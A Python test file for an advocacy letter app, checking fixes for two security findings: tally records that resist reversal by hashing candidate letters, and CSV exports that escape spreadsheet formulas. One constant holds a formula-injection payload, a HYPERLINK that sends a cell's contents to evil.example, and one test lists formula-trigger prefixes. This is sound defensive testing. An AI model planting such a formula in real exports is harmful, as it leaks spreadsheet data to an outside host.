"""Findings 5 and 7 of issue 16: tallies that cannot be reversed into the letter, and CSV
exports whose cells never run as spreadsheet formulas."""

from __future__ import annotations

import csv
import hashlib
import io
import sqlite3

import pytest

from advocate_app.cli import main
from advocate_app.core.archive import Archive
from advocate_app.core.csv_safe import safe_cell
from advocate_app.core.migrations import MIGRATIONS
from advocate_app.core.stacks import BatchInfo, group_letters
from advocate_app.core.store import Store
from advocate_app.core.tallies import Tallies, TallyFilter
from advocate_app.core.tally_keys import SESSION_KEYS, SessionKeys
from advocate_app.export.batch import delivery_csv
from tests.support.sample_letters import constituent, letter_for

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Click")'


def _candidates(member, names: list[str]) -> list[str]:
    """What the attack of finding 5 tried: every letter a no-story participant could write."""
    return [letter_for(member, who=constituent(name), body="").as_text() for name in names]


def test_a_tally_row_cannot_be_matched_to_the_letter(store, legislator_index) -> None:
    rep = legislator_index.representative("TX", 18)
    letter = letter_for(rep, who=constituent("Ada Quill"), body="")
    Archive(store).record(letter, "print")
    row = store.query("SELECT * FROM tallies")[0]
    tables = {r[0] for r in store.query("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert "tally_salt" not in tables  # the salt the attack read is gone
    # The attack: hash every candidate letter, with every salt and column in the database.
    columns = {str(v) for v in dict(row).values()}
    for text in _candidates(rep, ["Bo Quill", "Ada Quill", "Cy Quill"]):
        for digest in (
            hashlib.sha256(text.encode()).hexdigest(),
            hashlib.md5(text.encode()).hexdigest(),
        ):
            assert not any(digest.startswith(c) for c in columns if len(c) >= 8)
    # The token is random: the same letter in another session gets another one.
    assert SessionKeys().key(letter.as_text()) != row["letter_key"]


def test_one_letter_sent_two_ways_counts_once_within_the_session(store, legislator_index) -> None:
    rep = legislator_index.representative("TX", 18)
    letter = letter_for(rep, who=constituent("Ada Quill"))
    Archive(store).record(letter, "print")
    Archive(store).record(letter, "email", recipient="office@example.org")
    Archive(store).record(letter_for(rep, who=constituent("Bo Quill")), "print")
    total = Tallies(store).total()
    assert (total.letters, total.deliveries) == (2, 3)


def test_old_hashed_keys_become_random_tokens_keeping_the_grouping(tmp_path) -> None:
    path = tmp_path / "old.sqlite3"
    Store.open(path, migrations=MIGRATIONS[:3]).close()
    conn = sqlite3.connect(path)
    rows = [("a" * 16, "print"), ("a" * 16, "email"), ("b" * 16, "print"), ("", "pdf")]
    for key, route in rows:
        conn.execute(
            "INSERT INTO tallies (created_at, route, letter_key) VALUES (1, ?, ?)", (route, key)
        )
    conn.commit()
    conn.close()
    store = Store.open(path)
    keys = [r["letter_key"] for r in store.query("SELECT letter_key FROM tallies ORDER BY id")]
    assert keys[0] == keys[1] != keys[2] and keys[3] == ""
    assert not {"a" * 16, "b" * 16} & set(keys)
    assert Tallies(store).total().letters == 3
    store.close()


def test_forget_removes_the_tallies_asked_for(tmp_path, legislator_index, capsys) -> None:
    from advocate_app.app import Services
    from advocate_app.core.paths import AppPaths

    folder = tmp_path / "profile"
    services = Services(AppPaths.for_profile(folder), env={})
    rep = legislator_index.representative("TX", 18)
    services.event.start(name="Night one", pin="135791", routes=["print"])
    services.archive.record(letter_for(rep, who=constituent("Ada Quill")), "print")
    services.event.stop("135791")
    services.archive.record(letter_for(rep, who=constituent("Bo Quill")), "pdf")
    services.store.close()
    assert main(["--profile", str(folder), "forget", "--yes", "--tallies", "Night one"]) == 0
    assert "Letter counts of the event 'Night one' deleted: 1." in capsys.readouterr().out
    services = Services(AppPaths.for_profile(folder), env={})
    assert [e.name for e in services.tallies.events()] == [""]
    services.store.close()
    assert main(["--profile", str(folder), "forget", "--yes"]) == 0
    assert "--tallies deletes them" in capsys.readouterr().out
    assert main(["--profile", str(folder), "forget", "--yes", "--tallies"]) == 0
    services = Services(AppPaths.for_profile(folder), env={})
    assert services.tallies.total(TallyFilter()).deliveries == 0
    services.store.close()
    SESSION_KEYS.clear()


# --- finding 7: CSV injection -------------------------------------------------------------
@pytest.mark.parametrize(
    ("cell", "safe"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Ada", "Ada"), ("", ""), ("O'Brien", "O'Brien"),
     ("a=b", "a=b")],
)  # fmt: skip
def test_safe_cell(cell: str, safe: str) -> None:
    assert safe_cell(cell) == safe


def _spreadsheet_cells(data: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    return [cell for row in rows[1:] for cell in row]


def test_the_delivery_list_never_holds_a_formula(legislator_index) -> None:
    rep = legislator_index.representative("TX", 18)
    letter = letter_for(rep, who=constituent(FORMULA))
    cells = _spreadsheet_cells(delivery_csv(group_letters([(letter, None)], BatchInfo("test"))))
    assert "'" + FORMULA in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_the_tallies_csv_never_holds_a_formula(store, tmp_path, legislator_index) -> None:
    from advocate_app.core.event import EventMode
    from advocate_app.core.secrets import SecretStore
    from advocate_app.core.settings import Settings

    mode = EventMode(Settings(tmp_path / "settings.json", env={}), store, secrets=SecretStore())
    mode.start(name=FORMULA, pin="246810", routes=["print"])
    Archive(store).record(letter_for(legislator_index.representative("TX", 18)), "print")
    mode.stop("246810")
    cells = _spreadsheet_cells(Tallies(store).csv_bytes())
    assert "'" + FORMULA in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
